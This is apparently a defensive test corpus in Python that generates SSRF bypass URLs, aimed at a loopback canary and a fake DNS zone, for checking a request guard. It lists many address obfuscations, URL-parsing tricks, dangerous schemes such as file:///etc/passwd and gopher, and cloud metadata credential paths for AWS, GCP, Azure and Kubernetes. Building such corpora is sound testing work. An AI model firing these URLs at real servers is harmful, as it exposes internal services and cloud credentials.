"""URLs that try to make a server call itself, its neighbours or its cloud: every technique that we know of, with names for them.

``port`` is a canary's on the loopback. A test shows that most of those that name it would land if nobody guarded the way.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from ipaddress import IPv4Address, IPv6Address

from dns_server import Zone

PUBLIC, PUBLIC_V6 = "93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946"
METADATA = "169.254.169.254"
PRIVATE = ("10.0.0.1", "172.16.0.1", "192.168.1.1", METADATA)


@dataclass(frozen=True, slots=True)
class Attack:
    """One URL."""

    technique: str
    url: str


def corpus(port: int) -> list[Attack]:
    """All attacks on canaries at this port and on addresses where nobody listens."""
    found: list[Attack] = []
    for make in (
        _notations, _ranges, _loopback_v6, _embedded, _other_v6, _clouds, _unicode, _userinfo, _separators, _ports,
        _schemes, _names,
    ):  # fmt: skip
        technique = make.__name__.strip("_")
        found += [Attack(technique, url) for url in make(port)]
    return found


def zone() -> Zone:
    """The names of the corpus. TTLs are 0, so that whoever asks twice is answered twice."""
    many = [PUBLIC.replace("34", str(number)) for number in range(60)]
    return {
        "loop.example": [["127.0.0.1"]],
        "loop6.example": [["::1"]],
        "localhost": [["127.0.0.1", "::1"]],
        "localhost.localdomain": [["127.0.0.1"]],
        "ip6-localhost": [["::1"]],
        "other-loop.example": [["127.1.2.3"]],
        "127.0.0.1.nip.example": [["127.0.0.1"]],
        "mapped.example": [["::ffff:127.0.0.1"]],
        "zero.example": [["0.0.0.0"]],
        "xn--bcher-kva.example": [["127.0.0.1"]],
        "one-of-two.example": [[PUBLIC, "127.0.0.1"]],
        "first-of-two.example": [["127.0.0.1", PUBLIC]],
        "one-family.example": [[PUBLIC, "::1"]],
        "other-family.example": [[PUBLIC_V6, "127.0.0.1"]],
        "last-of-many.example": [[*many, "127.0.0.1"]],
        "alias.example": [["loop.example"]],
        "alias-of-alias.example": [["alias.example"]],
        "long-alias.example": [["alias-of-alias.example"]],
        "alias-of-metadata.example": [["metadata.google.internal"]],
        "alias-of-itself.example": [["alias-of-itself.example"]],
        "metadata.google.internal": [[METADATA]],
        "metadata": [[METADATA]],
        "instance-data.ec2.internal": [[METADATA]],
        "rancher-metadata": [["169.254.169.250"]],
        "metadata.tencentyun.com": [["169.254.0.23"]],
        "api.metadata.cloud.ibm.com": [[METADATA]],
        "kubernetes.default.svc": [["10.96.0.1"]],
        "kubernetes.default.svc.cluster.local": [["10.96.0.1"]],
        "host.docker.internal": [["192.168.65.254"]],
        **{f"private-{number}.example": [[address]] for number, address in enumerate(PRIVATE)},
        "ula.example": [["fd12:3456:789a::1"]],
        "link-local.example": [["fe80::1"]],
        "nat64.example": [["64:ff9b::7f00:1"]],
        "sixtofour.example": [["2002:7f00:1::1"]],
        "cgnat.example": [["100.64.0.1"]],
    }


def notations(address: str) -> list[str]:
    """The ways in which a resolver reads an IPv4 address."""
    a, b, c, d = IPv4Address(address).packed
    number = int(IPv4Address(address))
    return [
        f"{a}.{b}.{c}.{d}", f"{number}", f"{number:#x}", f"{number:#X}", f"0{number:o}", f"000000{number:o}",
        f"{a:#x}.{b:#x}.{c:#x}.{d:#x}", f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"0x{a:08x}.0x{b:08x}.0x{c:08x}.0x{d:08x}",
        f"{a}.{b}.{c * 256 + d}", f"{a}.{b * 65536 + c * 256 + d}", f"{a:#x}.{b}.0{c * 256 + d:o}",
        f"{a:#x}.{b * 65536 + c * 256 + d}",
    ]  # fmt: skip


def _notations(port: int) -> Iterator[str]:
    for address in ("127.0.0.1", "127.1.2.3"):
        yield from (f"http://{host}:{port}/" for host in notations(address))
    for address in (METADATA, "10.0.0.1"):
        yield from (f"http://{host}/latest/meta-data/" for host in notations(address))


def _ranges(port: int) -> Iterator[str]:
    landing = ("0.0.0.0", "0", "0x0", "127.255.255.254")
    yield from (f"http://{host}:{port}/" for host in landing)
    for host in (
        "0.0.0.1", "0.255.255.255", "10.255.255.255", "100.64.0.1", "100.127.255.254", "169.254.0.1", "169.254.170.2",
        "172.16.0.1", "172.31.255.254", "192.0.0.1", "192.0.0.170", "192.0.2.1", "192.88.99.1", "192.168.0.1",
        "192.168.255.254", "198.18.0.1", "198.19.255.254", "198.51.100.1", "203.0.113.1", "224.0.0.1", "239.255.255.250",
        "240.0.0.1", "255.255.255.255",
    ):  # fmt: skip
        yield f"http://{host}/"


def _loopback_v6(port: int) -> Iterator[str]:
    for host in (
        "::1",
        "0:0:0:0:0:0:0:1",
        "0000:0000:0000:0000:0000:0000:0000:0001",
        "::0001",
        "0::1",
        "::",
        "0::0",
    ):
        yield f"http://[{host}]:{port}/"
    for host in ("::1%25lo", "::1%lo", "fe80::1%25eth0", "fe80::1%eth0"):
        yield f"http://[{host}]:{port}/"


def embedding(address: str) -> list[str]:
    """IPv6 addresses that stand for an IPv4 address, each by another standard."""
    number = int(IPv4Address(address))
    high, low = f"{number >> 16:x}", f"{number & 0xFFFF:x}"
    teredo = IPv6Address((0x20010000 << 96) | (int(IPv4Address("8.8.8.8")) << 64) | (number ^ 0xFFFFFFFF))
    return [
        f"::{address}", f"::{high}:{low}", f"::ffff:0:{address}", f"64:ff9b::{address}", f"64:ff9b::{high}:{low}",
        f"64:ff9b:1::{address}", f"64:ff9b:1:ffff:ffff:ffff:{high}:{low}", f"2002:{high}:{low}::", f"2002:{high}:{low}::1",
        str(teredo), f"2001:0:{high}:{low}::1", f"2606:4700::5efe:{address}", f"2606:4700::200:5efe:{high}:{low}",
    ]  # fmt: skip


def _embedded(port: int) -> Iterator[str]:
    mapped = ("::ffff:127.0.0.1", "::ffff:7f00:1", "::FFFF:127.1.2.3", "0:0:0:0:0:ffff:7f00:0001")
    yield from (f"http://[{host}]:{port}/" for host in mapped)
    for address in ("127.0.0.1", METADATA, "192.168.1.1"):
        yield from (f"http://[{host}]:{port}/" for host in embedding(address))
    yield from (f"http://[::ffff:{address}]/" for address in PRIVATE)


def _other_v6(port: int) -> Iterator[str]:
    for host in (
        "fe80::1", "fe80::a9fe:a9fe", "febf::1", "fec0::1", "fc00::1", "fd00::1", "fd12:3456:789a::1", "ff02::1", "ff05::1:3",
        "100::1", "2001:db8::1", "2001:10::1", "2001:20::1", "3fff::1", "5f00::1", "4000::1", "::2", "0:1::",
    ):  # fmt: skip
        yield f"http://[{host}]:{port}/"


def _clouds(port: int) -> Iterator[str]:
    del port
    for place in (
        "169.254.169.254/latest/meta-data/iam/security-credentials/", "169.254.169.254/latest/user-data",
        "[fd00:ec2::254]/latest/meta-data/", "169.254.170.2/v2/credentials/", "169.254.170.23/v1/credentials",
        "[fd00:ec2::23]/v1/credentials", "metadata.google.internal/computeMetadata/v1/", "metadata/computeMetadata/v1/",
        "metadata.google.internal./computeMetadata/v1beta1/", "METADATA.Google.Internal/computeMetadata/v1/",
        "[fd20:ce::254]/computeMetadata/v1/", "169.254.169.252/", "169.254.169.254/metadata/instance?api-version=2021-02-01",
        "168.63.129.16/machine?comp=goalstate", "100.100.100.200/latest/meta-data/", "192.0.0.192/opc/v2/instance/",
        "169.254.169.254/opc/v2/instance/", "[fd00:c1::a9fe:a9fe]/opc/v2/instance/", "169.254.169.254/metadata/v1.json",
        "169.254.169.254/openstack/latest/meta_data.json", "169.254.169.254/hetzner/v1/metadata", "169.254.42.42/conf",
        "[fd00:42::42]/conf", "169.254.0.23/latest/meta-data/", "metadata.tencentyun.com/latest/meta-data/",
        "api.metadata.cloud.ibm.com/instance_identity/v1/token", "rancher-metadata/latest/", "169.254.169.250/latest/",
        "instance-data.ec2.internal/latest/meta-data/", "kubernetes.default.svc/api", "host.docker.internal:2375/containers/json",
        "kubernetes.default.svc.cluster.local/api/v1/namespaces/default/secrets",
    ):  # fmt: skip
        yield f"http://{place}"


def _unicode(port: int) -> Iterator[str]:
    for dot in "\u3002\uff0e\uff61":
        yield f"http://127{dot}0{dot}0{dot}1:{port}/"
        yield f"http://loop{dot}example:{port}/"
    for host in (
        "\uff11\uff12\uff17.\uff10.\uff10.\uff11", "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", "\u0661\u0662\u0667.0.0.1",
        "127.0.0.1\u200b", "\u00ad127.0.0.1", "127.0.0\u2024.1", "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3",
        "l\u043ecalhost", "\U0001d7cf\U0001d7d0\U0001d7d5.0.0.1", "[\uff1a\uff1a1]", "127.0.0.1\ufe52", "loop\u2044.example",
    ):  # fmt: skip
        yield f"http://{host}:{port}/"
    yield f"http://b\u00fccher.example:{port}/"
    for host in (
        "%31%32%37.0.0.1",
        "127.0.0.1%00.example.org",
        "127.0.0.1%2eexample.org",
        "%6c%6f%63alhost",
        "127%2e0%2e0%2e1",
    ):
        yield f"http://{host}:{port}/"


def _userinfo(port: int) -> Iterator[str]:
    here = f"127.0.0.1:{port}"
    for authority in (
        f"example.org@{here}", f"example.org:80@{here}", f"example.org%40@{here}", f"{here}@loop.example:{port}",
        f"example.org%2f@{here}", f"example.org%23@{here}", f"a@b@{here}", f":@{here}", f"%00@{here}", f"{here}:80@loop.example",
    ):  # fmt: skip
        yield f"http://{authority}/"
    yield from (
        f"http://@{here}/",
        f"http://{here}#@example.org/",
        f"http://{here}?@example.org/",
        f"http://{here}/@example.org/",
    )


def _separators(port: int) -> Iterator[str]:
    here = f"127.0.0.1:{port}"
    yield from (
        f"http://example.org\\@{here}/", f"http://{here}\\@example.org/", f"http://{here}\\.example.org/", f"http:\\\\{here}/",
        f"http:/\\{here}/", f"http:{here}/", f"http:/{here}/", f"http:///{here}/", f"http:////{here}/",
        f"//{here}/", f"\\\\{here}\\",
        f"http://\t{here}/", f"http://127.0.\t0.1:{port}/", f"ht\ntp://{here}/", f"http://\x00{here}/", f"http://127.0.0.1\x00:{port}/",
        f"http://127.0.0.1 :{port}/", f"http:// {here}/", f"http://127.0.0.1\r\n:{port}/", f"http://127.0.0.1;{port}/",
        f"http://127.0.0.1,example.org:{port}/", f"http://[127.0.0.1]:{port}/", f"http://[::1]x:{port}/", f"http://x[::1]:{port}/",
        f"http://[[::1]]:{port}/", f"http://::1:{port}/", f"http://127.0.0.1.:{port}/", f"http://127..0.0.1:{port}/",
        f"http://.127.0.0.1:{port}/", f"http://-127.0.0.1:{port}/", f"http://127.0.0.1_:{port}/", f"http://*:{port}/",
        f"http://127.0.0.256:{port}/", f"http://4294967297:{port}/", f"http://0x17f000001:{port}/",
    )  # fmt: skip
    yield from (f" http://{here}/", f"http://{here}/ ", f"http://{here}/a b\\c", f"http://{here}//etc/..;/")


def _ports(port: int) -> Iterator[str]:
    for text in (
        "0",
        str(port + 65536),
        str(port + 2**32),
        f"-{65536 - port}",
        f"+{port}",
        f"{port:#x}",
        f"{port}:80",
        f"80:{port}",
    ):
        yield f"http://127.0.0.1:{text}/"
    for text in (f"0000{port}", "".join(chr(0xFF10 + int(digit)) for digit in str(port))):
        yield f"http://127.0.0.1:{text}/"
    yield from (f"http://127.0.0.1:{number}/" for number in (22, 25, 111, 2375, 6379, 9200, 11211))
    yield "http://127.0.0.1/"
    yield "http://127.0.0.1:/"


def _schemes(port: int) -> Iterator[str]:
    here = f"127.0.0.1:{port}"
    yield from (f"{scheme}://{here}/" for scheme in ("hTTp", "HTTP"))
    yield f"https://{here}/"
    for scheme in (
        "file", "ftp", "ftps", "gopher", "dict", "ldap", "ldaps", "sftp", "tftp", "ssh", "smb", "telnet", "ws", "wss", "redis",
        "jar:http", "netdoc", "http+unix", "blob:http", "view-source:http", "url:http", "data", "php", "nats", "postgresql",
    ):  # fmt: skip
        yield f"{scheme}://{here}/"
    yield from (
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/plain,x",
        "unix:/var/run/docker.sock",
        "about:blank",
    )


def _names(port: int) -> Iterator[str]:
    for host in (
        "localhost", "LOCALHOST", "LocalHost.", "localhost.localdomain", "ip6-localhost", "loop.example", "LOOP.example.",
        "loop6.example", "other-loop.example", "127.0.0.1.nip.example", "mapped.example", "zero.example", "alias.example",
        "alias-of-alias.example", "long-alias.example", "first-of-two.example",
    ):  # fmt: skip
        yield f"http://{host}:{port}/"
    for host in (
        "one-of-two.example", "one-family.example", "other-family.example", "last-of-many.example", "alias-of-metadata.example",
        "alias-of-itself.example", "private-0.example", "private-1.example", "private-2.example", "private-3.example",
        "ula.example", "link-local.example", "nat64.example", "sixtofour.example", "cgnat.example", "nowhere.example",
    ):  # fmt: skip
        yield f"http://{host}:{port}/"
